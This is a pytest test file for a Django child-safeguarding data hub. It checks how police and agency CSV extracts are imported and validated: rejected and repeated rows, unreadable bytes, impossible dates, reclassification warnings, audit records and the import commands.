        EVENTS_HEADER + "\n" + "police-records,EV-9,NICHE-00000,concern,2025-01-10,,,,,,,\n"
    )

    result = import_extract(example)

    (issue,) = issues_at(result, "events.csv")[2]
    assert issue.severity == IssueSeverity.REJECTED
    assert "NICHE-00000" in issue.reason
    assert "holds no police-records record" in issue.reason
    assert not Event.objects.exists()


@pytest.mark.django_db
def test_required_values_missing_or_impossible_are_rejected(systems: dict, tmp_path: Path) -> None:
    extract = write_extract(tmp_path / "x", {
        "people.csv": people_file(people_row("P1"), people_row(""), people_row("P1", given_name="again")),
        "events.csv": EVENTS_HEADER + "\n"
        "police-records,E1,P1,concern,2025-02-30,,,,,,,\n"
        "police-records,E2,P1,,,,,,,,,\n"
        "police-records,E3,P1,concern,2025-02-03,,,,,,\n",
    })

    result = import_extract(extract)

    people = issues_at(result, "people.csv")
    assert "record_id is empty" in people[3][0].reason
    assert "appears more than once" in people[4][0].reason
    events = issues_at(result, "events.csv")
    assert "occurred_at '2025-02-30' is not a real" in events[2][0].reason
    assert "event_type is empty" in events[3][0].reason and "occurred_at is empty" in events[3][0].reason
    assert "11 values but the header has 12" in events[4][0].reason
    assert all(i.severity == IssueSeverity.REJECTED for i in result.issues)
    assert SourceRecord.objects.get().given_name == ""  # the repeated row did not overwrite the first
    assert not Event.objects.exists()


@pytest.mark.django_db
def test_a_rejected_row_does_not_take_its_event_id_from_the_corrected_row_after_it(
    systems: dict, tmp_path: Path
) -> None:
    # An agency's extract repeats an event with its type corrected: the first row is refused for its
    # type, and the second, the right one, is imported rather than refused as a repeat.
    extract = write_extract(tmp_path / "x", {
        "people.csv": people_file(people_row("P1")),
        "events.csv": EVENTS_HEADER + "\n"
        "police-records,E1,P1,ran_away,2025-02-03,,,,,,,\n"
        "police-records,E1,P1,missing_episode,2025-02-03,,,,,,,\n",
    })

    result = import_extract(extract)

    (issue,) = issues_at(result, "events.csv")[2]
    assert "unknown event_type 'ran_away'" in issue.reason and "more than once" not in issue.reason
    assert 3 not in issues_at(result, "events.csv")
    assert Event.objects.get().event_type == "missing_episode"


def rejected_rows(result: ImportResult, file: str) -> list[str]:
    """The lines of ``file`` in the run's rejected extract (``run-N-rejected/``), without its header."""
    found = result.rejects_path.parent / f"run-{result.run.pk}-rejected" / file if result.rejects_path else None
    return found.read_text().splitlines()[1:] if found is not None and found.exists() else []


@pytest.mark.django_db
def test_an_event_refused_at_the_write_does_not_take_its_event_id_from_the_corrected_row_after_it(
    systems: dict, tmp_path: Path
) -> None:
    # The first row names a record the hub does not hold: nothing of it is imported, so the corrected
    # row after it is the event's first imported row. A repeat of that row is still refused.
    rows = [
        "police-records,D1,TYPO,missing_episode,2025-02-03,,,,,,,first\n",
        "police-records,D1,Q1,missing_episode,2025-02-03,,,,,,,corrected\n",
        "police-records,D1,Q1,missing_episode,2025-02-03,,,,,,,again\n",
        "police-records,D1,TYPO,missing_episode,2025-02-03,,,,,,,again with the typo\n",
    ]
    extract = write_extract(tmp_path / "x", {
        "people.csv": people_file(people_row("Q1")), "events.csv": EVENTS_HEADER + "\n" + "".join(rows),
    })

    result = import_extract(extract)

    events = issues_at(result, "events.csv")
    assert set(events) == {2, 4, 5}
    assert [(i.column, i.reason) for i in events[2]] == [("record_id", upsert._not_held(["TYPO"], "police-records"))]
    repeat = "event_id 'D1' appears more than once in events.csv for police-records; only its first row is imported"
    assert [(i.column, i.reason) for i in events[4]] == [("event_id", repeat)]
    (both,) = events[5]
    assert both.column == "record_id, event_id"
    assert both.reason == upsert._not_held(["TYPO"], "police-records") + "; " + repeat
    assert all(i.severity == IssueSeverity.REJECTED for found in events.values() for i in found)
    event = Event.objects.get()
    assert (event.source_record.record_id, event.detail) == ("Q1", "corrected")
    assert (result.counts["events.csv"].created, result.counts["events.csv"].rejected) == (1, 3)
    # The row to mend is kept to import again; the repeats of the imported row are not.
    assert rejected_rows(result, "events.csv") == [rows[0].strip()]


@pytest.mark.django_db
def test_a_relationship_refused_at_the_write_does_not_make_its_repeat_a_repeat_of_an_imported_row(
    systems: dict, tmp_path: Path
) -> None:
    rows = [
        "police-records,Q1,TYPO,associate,2024-01-01,\n",
        "police-records,Q1,TYPO,associate,2024-02-01,\n",
        "police-records,Q1,Q2,associate,2024-03-01,\n",
        "police-records,Q1,Q2,associate,2024-04-01,\n",
    ]
    extract = write_extract(tmp_path / "x", {
        "people.csv": people_file(people_row("Q1"), people_row("Q2")),
        "relationships.csv": "source_system,record_id,other_record_id,relationship,start_date,end_date\n" + "".join(rows),
    })

    result = import_extract(extract)

    found = issues_at(result, "relationships.csv")
    assert set(found) == {2, 3, 5}
    for line in (2, 3):
        assert [(i.column, i.reason) for i in found[line]] == [
            ("other_record_id", upsert._not_held(["TYPO"], "police-records"))]
    assert [i.reason for i in found[5]] == [
        "the associate relationship of 'Q1' to 'Q2' appears more than once in relationships.csv; "
        "only its first row is imported"]
    assert Relationship.objects.get().start_date == dt.date(2024, 3, 1)
    assert rejected_rows(result, "relationships.csv") == [rows[0].strip(), rows[1].strip()]


@pytest.mark.django_db
def test_an_event_reclassified_by_a_later_extract_is_never_silent(systems: dict, tmp_path: Path) -> None:
    from safeguarding.audit.models import AuditEvent, AuditEventType

    header = EVENTS_HEADER + ",handling\n"
    first = write_extract(tmp_path / "first", {
        "people.csv": people_file(people_row("P1")),
        "events.csv": header + "police-records,E1,P1,intelligence,2025-02-03,,,,,,,Seen with an adult at a flat,C\n",
    })
    import_extract(first)
    again = write_extract(tmp_path / "again", {
        "events.csv": header + "police-records,E1,P1,other,2025-02-03,,,,,,,Seen with an adult at a flat,P\n",
    })

    result = import_extract(again)

    (warning,) = issues_at(result, "events.csv")[2]
    assert warning.severity == IssueSeverity.WARNING
    assert "reclassified: event_type intelligence to other, handling C to P" in warning.reason
    assert "seen only by the police and is now shared with every casework role" in warning.reason
    event = Event.objects.get()
    assert (event.event_type, event.handling) == ("other", "P")  # the police's own system may reclassify
    row = AuditEvent.objects.filter(event_type=AuditEventType.EXTRACT_IMPORTED).order_by("-sequence").first()
    assert row.detail["reclassified"] == [{"event": event.pk, "before": {"event_type": "intelligence", "handling": "C"},
                                           "after": {"event_type": "other", "handling": "P"}}]
    assert row.detail["reclassified_count"] == 1


@pytest.mark.django_db
def test_a_missing_required_column_rejects_that_file_only(systems: dict, example: Path) -> None:
    (example / "relationships.csv").write_text("source_system,record_id,relationship\npolice-records,X,peer\n")

    result = import_extract(example)

    assert result.counts["relationships.csv"].file_rejected
    (issue,) = issues_at(result, "relationships.csv")[1]
    assert issue.severity == IssueSeverity.REJECTED
    assert "other_record_id" in issue.reason
    assert not Relationship.objects.exists()
    assert (SourceRecord.objects.count(), Event.objects.count()) == (6, 5)


@pytest.mark.django_db
def test_a_row_that_is_not_utf8_is_rejected_with_its_line_and_the_rest_imported(
    systems: dict, example: Path
) -> None:
    """SPEC.md: a row that cannot be read is rejected with its file, line and reason; the rest of the
    extract is still imported. One bad byte in a person's row loses neither the file's other people
    nor the events about them."""
    lines = (example / "people.csv").read_bytes().splitlines(keepends=True)
    lines[2] = lines[2].replace(b",F,", b",F \xe9,")
    (example / "people.csv").write_bytes(b"".join(lines))
    result = import_extract(example)

    (issue,) = issues_at(result, "people.csv")[3]
    assert issue.severity == IssueSeverity.REJECTED
    assert "not valid UTF-8 at line 3 (byte 0xe9" in issue.reason
    assert not result.counts["people.csv"].file_rejected
    assert SourceRecord.objects.count() == 5  # the six people but the one on line 3
    kept = ImportIssue.objects.get(run=result.run, file_name="people.csv", line_number=3).row
    assert kept["record_id"] == "NICHE-77812" and "\ufffd" in kept["sex"]  # the row, to mend and send again
    # Only the events about that one person wait for it; the others are imported.
    waiting = [i for i in result.issues if "neither in this extract" in i.reason]
    assert waiting and all("NICHE-77812" in i.reason for i in waiting)
    assert Event.objects.exists()


@pytest.mark.django_db
def test_a_quote_left_open_rejects_every_line_it_took_each_with_its_line(systems: dict, tmp_path: Path) -> None:
    """A stray quote takes the lines after it into one value until another quote ends it: each of those
    lines is rejected on its own, the good ones too, and is in the extract of rejected rows as sent."""
    (tmp_path / "x").mkdir()
    lines = ["source_system,record_id,given_name,family_name", 'police-records,P1,"Ann,Lee', "police-records,P2,Bo,Ray",
             "police-records,P3,Cy,Fox", 'police-records,P4,Dee,"Smith, Dee"', "police-records,P5,Eve,Hart"]
    (tmp_path / "x" / "people.csv").write_text("\n".join(lines) + "\n")

    result = import_extract(tmp_path / "x")

    rejected = {i.line: i.reason for i in result.issues}
    assert sorted(rejected) == [2, 3, 4, 5]
    assert rejected[2].startswith("not readable as CSV at line 5")
    assert rejected[3].startswith("read inside a quoted value opened at line 2")
    assert list(SourceRecord.objects.values_list("record_id", flat=True)) == ["P5"]
    again = (Path(str(result.rejects_path)).parent / f"run-{result.run.pk}-rejected" / "people.csv").read_text()
    assert again.splitlines() == ["source_system,record_id,given_name,family_name", *lines[1:5]]


@pytest.mark.django_db
def test_a_quote_never_closed_rejects_the_lines_it_took_and_keeps_those_before(systems: dict, tmp_path: Path) -> None:
    (tmp_path / "x").mkdir()
    (tmp_path / "x" / "people.csv").write_bytes(b'source_system,record_id\npolice-records,P0\npolice-records,"P1\n'
                                                b"police-records,P2\n")

    result = import_extract(tmp_path / "x")

    assert [(i.line, i.reason.split(":")[0]) for i in result.issues] == [
        (3, "a quoted value opened in the row at line 3 is never closed (the file ends inside it)"),
        (4, "read inside a quoted value opened at line 3")]
    assert list(SourceRecord.objects.values_list("record_id", flat=True)) == ["P0"]


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("bad", "reason"),
    [
        (b'"P1"x', "not readable as CSV at line 3"),
        (b"P\x001", "line 3 contains a NUL byte"),
    ],
)
def test_a_row_that_is_not_csv_is_rejected_and_the_file_read_on(
    systems: dict, tmp_path: Path, bad: bytes, reason: str
) -> None:
    (tmp_path / "x").mkdir()
    (tmp_path / "x" / "people.csv").write_bytes(
        b"source_system,record_id\npolice-records,P0\npolice-records," + bad + b"\npolice-records,P2\n")

    result = import_extract(tmp_path / "x")

    (issue,) = result.issues
    assert (issue.line, issue.severity) == (3, IssueSeverity.REJECTED)
    assert reason in issue.reason
    assert sorted(SourceRecord.objects.values_list("record_id", flat=True)) == ["P0", "P2"]


@pytest.mark.django_db
def test_a_repeated_key_in_a_later_batch_is_still_found(
    systems: dict, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(read, "BATCH_SIZE", 2)
    extract = write_extract(tmp_path / "x", {"people.csv": people_file(
        *(people_row(f"P{n}") for n in range(5)), people_row("P1", given_name="late"),
    )})

    result = import_extract(extract)

    (issue,) = issues_at(result, "people.csv")[7]
    assert "appears more than once" in issue.reason
    assert SourceRecord.objects.count() == 5
    assert result.counts["people.csv"].created == 5


def test_a_missing_or_empty_path_is_a_clear_error(tmp_path: Path) -> None:
    with pytest.raises(ServiceError, match="No extract given"):
        import_extract("")
    with pytest.raises(ServiceError, match="does not exist"):
        import_extract(tmp_path / "nowhere")
    (tmp_path / "empty").mkdir()
    with pytest.raises(ServiceError, match="holds none of"):
        import_extract(tmp_path / "empty")
    (tmp_path / "broken.zip").write_bytes(b"PK\x03\x04 not really a zip")
    with pytest.raises(ServiceError):
        import_extract(tmp_path / "broken.zip")


@pytest.mark.django_db
def test_a_failure_mid_import_leaves_nothing_half_written(
    systems: dict, example: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def explode(self: object, rows: object) -> None:
        raise RuntimeError("disk full")

    monkeypatch.setattr(upsert.Upsert, "events", explode)

    with pytest.raises(ServiceError, match="disk full"):
        import_extract(example)

    assert table_sizes() == (0, 0, 0, 0)
    assert not ImportIssue.objects.exists()
    run = ImportRun.objects.get()
    assert run.status == ImportStatus.FAILED
    assert "disk full" in run.failure
    assert not AuditEvent.objects.filter(event_type=AuditEventType.EXTRACT_IMPORTED).exists()


# --- Commands ------------------------------------------------------------------------------------


@pytest.mark.django_db
def test_import_command_reports_counts_lines_and_reasons(systems: dict, example: Path) -> None:
    """And fails once the rest is imported: an extract whose rows were rejected ended "completed",
    status 0, so a scheduled import that lost every row to an unknown system code was not noticed."""
    out = io.StringIO()

    with pytest.raises(CommandError, match=r"^2 of 14 rows were rejected and not imported \(the rest were\)"):
        call_command("import_extract", str(example), "--quiet", stdout=out)
    assert SourceRecord.objects.count() == 6 and Event.objects.count() == 5  # all but the two rejected

    text = out.getvalue()
    assert "events.csv line 7 [source_system]: rejected - unknown source_system 'bad-system'" in text
    assert "events.csv line 8 [event_type]: rejected - unknown event_type 'ran_away'" in text
    assert "people.csv line 4 [date_of_birth]: warning" in text
    assert "run-" in text and "-issues.csv" in text
    assert "completed" in text


@pytest.mark.django_db
def test_import_command_lists_fifty_issues_then_points_to_the_rejects_file(
    systems: dict, tmp_path: Path
) -> None:
    extract = write_extract(tmp_path / "x", {"people.csv": people_file(
        *(people_row(f"P{n}", sex="?") for n in range(60)),
    )})
    out = io.StringIO()

    call_command("import_extract", str(extract), "--quiet", stdout=out)

    text = out.getvalue()
    assert "people.csv line 51 [sex]" in text
    assert "people.csv line 52 [sex]" not in text
    assert "and 10 more — see " in text


@pytest.mark.django_db
def test_import_command_fails_when_a_whole_file_is_refused_after_importing_the_rest(
    systems: dict, example: Path
) -> None:
    (example / "relationships.csv").write_text("source_system,record_id\n")
    out = io.StringIO()

    with pytest.raises(CommandError, match=r"relationships\.csv was not imported at all"):
        call_command("import_extract", str(example), "--quiet", stdout=out)

    assert "whole file" in out.getvalue()
    assert SourceRecord.objects.count() == 6 and Event.objects.exists()


@pytest.mark.django_db
def test_import_command_fails_with_a_one_line_message(tmp_path: Path) -> None:
    with pytest.raises(CommandError, match="does not exist"):
        call_command("import_extract", str(tmp_path / "nowhere"), "--quiet")


@pytest.mark.django_db
def test_source_systems_add_and_list(db: None) -> None:
    Agency.objects.create(code="police", name="South Yorkshire Police", kind=AgencyKind.POLICE)
    out = io.StringIO()

    call_command("source_systems", "add", "police-records", "--agency", "police", "--name", "Police RMS", stdout=out)
    call_command("source_systems", "list", stdout=out)

    system = SourceSystem.objects.get(code="police-records")
    assert system.agency.code == "police"
    assert "police-records" in out.getvalue() and "South Yorkshire Police" in out.getvalue()
    event = AuditEvent.objects.get(event_type=AuditEventType.SOURCE_SYSTEM_REGISTERED)
    assert event.target_id == str(system.pk)
    with pytest.raises(CommandError, match="already registered"):
        call_command("source_systems", "add", "police-records", "--agency", "police", "--name", "Again")
    with pytest.raises(CommandError, match="no agency 'fire'"):
        call_command("source_systems", "add", "fire-records", "--agency", "fire", "--name", "Fire")


@pytest.mark.django_db
def test_a_rejected_row_reports_only_its_rejection_and_issues_come_in_line_order(
    systems: dict, example: Path
) -> None:
    (example / "events.csv").write_text(
        EVENTS_HEADER + "\n"
        "police-records,EV-8,NICHE-77812,concern,2025-01-10,,,,,not a phone,,\n"
        "police-records,EV-9,NICHE-00000,concern,2025-01-10,,,,,not a phone,,\n"
        "police-records,EV-10,NICHE-77812,concern,2025-01-10,,,,,not a phone,,\n"
    )

    result = import_extract(example)

    events = [(i.line, i.severity) for i in result.issues if i.file == "events.csv"]
    assert events == [(2, "warning"), (3, "rejected"), (4, "warning")]


@pytest.mark.django_db
def test_relationship_values_checked(systems: dict, example: Path) -> None:
    (example / "relationships.csv").write_text(
        "source_system,record_id,other_record_id,relationship,start_date,end_date\n"
        "police-records,NICHE-77812,NICHE-90011,associate,2024-12-01,2024-11-01\n"
        "police-records,NICHE-77812,NICHE-90012,cousin,,\n"
        "police-records,NICHE-77812,NICHE-99999,peer,,\n"
    )

    result = import_extract(example)

    issues = {i.line: i for i in result.issues if i.file == "relationships.csv"}
    assert (issues[2].severity, issues[2].column) == ("warning", "end_date")
    assert "unknown relationship 'cousin'" in issues[3].reason
    assert "NICHE-99999" in issues[4].reason
    link = Relationship.objects.get()
    assert (link.start_date, link.end_date) == (dt.date(2024, 12, 1), None)


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("content", "reason"),
    [
        (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "not valid UTF-8 at line 1"),
        (b"", "has no header row"),
        ("source_system,record_id\n".encode("utf-16-le"), "line 1 contains a NUL byte"),
        (b'source_system,"record_id"x\npolice-records,P1\n', "the header row cannot be read: not readable as CSV"),
    ],
)
def test_a_file_that_is_not_csv_is_refused_with_a_clear_reason(
    systems: dict, tmp_path: Path, content: bytes, reason: str
) -> None:
    (tmp_path / "x").mkdir()
    (tmp_path / "x" / "people.csv").write_bytes(content)

    result = import_extract(tmp_path / "x")

    (issue,) = result.issues
    assert reason in issue.reason
    assert result.counts["people.csv"].file_rejected
    assert result.run.status == ImportStatus.COMPLETED


@pytest.mark.django_db
def test_a_single_file_may_be_imported_on_its_own(systems: dict, example: Path) -> None:
    result = import_extract(example / "people.csv")

    assert list(result.counts) == ["people.csv"]
    assert SourceRecord.objects.count() == 6


@pytest.mark.django_db
def test_import_command_with_progress_bars(systems: dict, example: Path) -> None:
    out = io.StringIO()

    with pytest.raises(CommandError, match="rows were rejected"):
        call_command("import_extract", str(example), stdout=out)

    assert "people.csv" in out.getvalue()
    assert SourceRecord.objects.count() == 6


def test_an_import_large_next_to_the_tables_builds_their_indexes_after_and_stores_the_same(
    systems: dict, example: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A partnership's first import is large next to its empty tables: their indexes are built again
    after the write (and, on PostgreSQL, the foreign keys checked once). What is stored, and what a
    later extract finds and changes, is what an ordinary import does."""
    from safeguarding.core import bulk
    from tests.core.test_bulk import _indexes

    tables = [m._meta.db_table for m in (SourceRecord, Person, Event, Relationship)]
    before = {t: _indexes(t) for t in tables}
    import_extract(example)
    ordinary = (table_sizes(), sorted(SourceRecord.objects.values_list("record_id", "family_name", "person__family_name")))
    for model in (Event, Relationship, SourceRecord, Person):
        model.objects.all().delete()

    monkeypatch.setattr(bulk, "CHECK_ONCE_FROM", 1)
    import_extract(example)
    assert (table_sizes(), sorted(SourceRecord.objects.values_list("record_id", "family_name",
                                                                   "person__family_name"))) == ordinary
    assert {t: _indexes(t) for t in tables} == before
    later = write_extract(tmp_path / "later", {"people.csv": PEOPLE_HEADER + "\n" + "".join(
        f"{system},{record_id},,,Renamed,,,,,,,,,,,,2026-01-01T00:00:00\n"
        for system, record_id in SourceRecord.objects.values_list("source_system__code", "record_id"))})
    again = import_extract(later)
    assert again.counts["people.csv"].updated == ordinary[0][1]
    assert set(Person.objects.filter(source_records__isnull=False).values_list("family_name", flat=True)) == {"Renamed"}


@pytest.mark.django_db
def test_a_vehicle_registration_of_no_uk_shape_is_set_aside_and_never_becomes_a_shared_vehicle(
    systems: dict, tmp_path: Path
) -> None:
    rows = "".join(
        f"police-records,E{n},P1,seen_in_vehicle,2025-01-1{n}T22:00,,,,{plate},,,\n"
        for n, plate in enumerate(["ya19 abc", "UNKNOWN", "NK", "n/a", "WA 12345", "A123 BCD"], start=1)
    )
    extract = write_extract(tmp_path / "x", {"people.csv": people_file(people_row("P1")), "events.csv": EVENTS_HEADER + "\n" + rows})

    result = import_extract(extract)

    stored = dict(Event.objects.values_list("event_id", "vehicle_registration"))
    assert stored == {"E1": "YA19ABC", "E2": "", "E3": "", "E4": "", "E5": "", "E6": "A123BCD"}
    assert Event.objects.get(event_id="E2").raw["vehicle_registration"] == "UNKNOWN"  # what was sent is kept
    warned = {i.line: i.reason for i in result.issues if i.file == "events.csv"}
    assert sorted(warned) == [3, 4, 5, 6]
    assert warned[3] == "vehicle_registration 'UNKNOWN' is not a UK registration; set aside"


@pytest.mark.django_db
def test_a_moment_that_has_not_come_yet_is_impossible(systems: dict, tmp_path: Path) -> None:
    """SPEC.md rejects an impossible occurred_at: a typed 2099 would otherwise be the latest moment the
    hub knows, and every clock judged at it overdue. A date of birth, a return or an update stamp that
    has not come yet is set aside with a warning, its row kept."""
    tomorrow_but_one = (timezone.localdate() + dt.timedelta(days=2)).isoformat()
    people = people_file(people_row("P1", date_of_birth="2031-05-01", updated_at="2099-01-01T00:00"),
                         people_row("P2", date_of_birth=timezone.localdate().isoformat()))
    events = EVENTS_HEADER + "\n" + "".join([
        "police-records,E1,P1,missing_episode,2099-01-13,,,,,,,\n",
        f"police-records,E2,P1,missing_episode,{tomorrow_but_one},,,,,,,\n",
        f"police-records,E3,P1,missing_episode,2026-01-05T22:00,{tomorrow_but_one}T01:00,,,,,,\n",
        f"police-records,E4,P1,missing_episode,{timezone.localdate().isoformat()},,,,,,,\n",
    ])
    extract = write_extract(tmp_path / "x", {"people.csv": people, "events.csv": events})

    result = import_extract(extract)

    events_issues = {line: i for line, [i] in issues_at(result, "events.csv").items()}
    assert {line: i.severity for line, i in events_issues.items()} == {
        2: IssueSeverity.REJECTED, 3: IssueSeverity.REJECTED, 4: IssueSeverity.WARNING}
    assert events_issues[2].reason == "occurred_at '2099-01-13' is not a real ISO 8601 date or date-time, or is more than a day in the future"
    assert sorted(Event.objects.values_list("event_id", flat=True)) == ["E3", "E4"]
    assert Event.objects.get(event_id="E3").ended_at is None
    people_issues = {i.column for i in issues_at(result, "people.csv")[2]}
    assert people_issues == {"date_of_birth", "updated_at"} and 3 not in issues_at(result, "people.csv")
    first = SourceRecord.objects.get(record_id="P1")
    assert (first.date_of_birth, first.updated_at) == ("", None)


@pytest.mark.django_db
def test_a_return_dated_the_day_an_episode_began_ends_it_and_starts_the_interview_clock(
    systems: dict, tmp_path: Path
) -> None:
    """A date alone is some time that day: an episode that began at 22:15 and ended "2025-01-10" ended that
    evening, at the earliest the moment it began, so the return home interview is due 72 hours from then.
    A date on a day before the episode began is still an end before its start, and set aside."""
    from safeguarding.clocks.models import ClockKind, StatutoryClock
    from safeguarding.clocks.services import clocks_refresh

    extract = write_extract(tmp_path / "x", {
        "people.csv": people_file(people_row("P1", date_of_birth="2010-03-14", role="child"),
                                  people_row("P2", date_of_birth="2011-05-02", role="child")),
        "events.csv": EVENTS_HEADER + "\n"
        "police-records,E1,P1,missing_episode,2025-01-10T22:15:00,2025-01-10,,,,,,\n"
        "police-records,E2,P2,missing_episode,2025-01-10T22:15:00,2025-01-09,,,,,,\n"
        "police-records,E3,P2,missing_episode,2025-06-10T09:00:00,2025-06-12,,,,,,\n",
    })

    result = import_extract(extract)

    assert set(issues_at(result, "events.csv")) == {3}
    (before,) = issues_at(result, "events.csv")[3]
    assert (before.severity, before.column) == (IssueSeverity.WARNING, "ended_at")
    assert before.reason == "ended_at '2025-01-09' is before occurred_at '2025-01-10T22:15:00'; set aside"
    returned = dt.datetime(2025, 1, 10, 22, 15, tzinfo=UTC)  # January: GMT
    assert Event.objects.get(event_id="E1").ended_at == returned
    assert Event.objects.get(event_id="E2").ended_at is None
    # A later day: its first moment in England (summer time).
    assert Event.objects.get(event_id="E3").ended_at == dt.datetime(2025, 6, 11, 23, 0, tzinfo=UTC)

    clocks_refresh()

    person = SourceRecord.objects.get(record_id="P1").person
    clock = StatutoryClock.objects.get(child=person, kind=ClockKind.RETURN_HOME_INTERVIEW)
    assert (clock.started_at, clock.due_at) == (returned, returned + dt.timedelta(hours=72))


@pytest.mark.django_db
def test_the_rejected_rows_are_an_extract_to_mend_and_import_again(systems: dict, example: Path) -> None:
    """SPEC.md keeps rejections "so they can be fixed and re-imported": each file's rejected rows, under
    the header they came with, in a folder that is itself an extract."""
    out = io.StringIO()
    with pytest.raises(CommandError, match="rows were rejected"):
        call_command("import_extract", str(example), "--quiet", stdout=out)
    run = ImportRun.objects.get()
    folder = Path(out.getvalue().split("as an extract to mend and import again: ")[1].split()[0])

    assert sorted(p.name for p in folder.iterdir()) == ["events.csv"]  # the warning's row was kept
    sent = (example / "events.csv").read_text().splitlines()
    mended = (folder / "events.csv").read_text().splitlines()
    assert mended == [sent[0], sent[6], sent[7]]  # the header, and lines 7 and 8 as sent
    (folder / "events.csv").write_text("\n".join([mended[0], mended[1].replace("bad-system,EV-X,X-1", "police-records,EV-X,NICHE-77812"),
                                                  mended[2].replace("ran_away", "missing_episode")]) + "\n")
    before = Event.objects.count()

    again = import_extract(folder)

    assert again.issue_count == 0 and Event.objects.count() == before + 2
    assert again.run.pk != run.pk


@pytest.mark.django_db
def test_rows_not_to_import_again_as_they_are_stay_out_of_the_rejected_extract(systems: dict, tmp_path: Path) -> None:
    """A repeat of a key whose first row was imported would overwrite it; a value with a byte that is not
    UTF-8 is no longer as sent. Both stay in the issues file only, to send again from the system."""
    (tmp_path / "x").mkdir()
    (tmp_path / "x" / "people.csv").write_bytes(
        b"source_system,record_id,given_name\npolice-records,P1,Ann\npolice-records,P1,Again\n"
        b"police-records,P2,Zo\xe9\nbad-system,P3,Cy\n")

    result = import_extract(tmp_path / "x")

    assert sorted(i.line for i in result.issues) == [3, 4, 5]
    folder = Path(str(result.rejects_path)).parent / f"run-{result.run.pk}-rejected"
    assert (folder / "people.csv").read_text().splitlines() == ["source_system,record_id,given_name",
                                                                "bad-system,P3,Cy"]
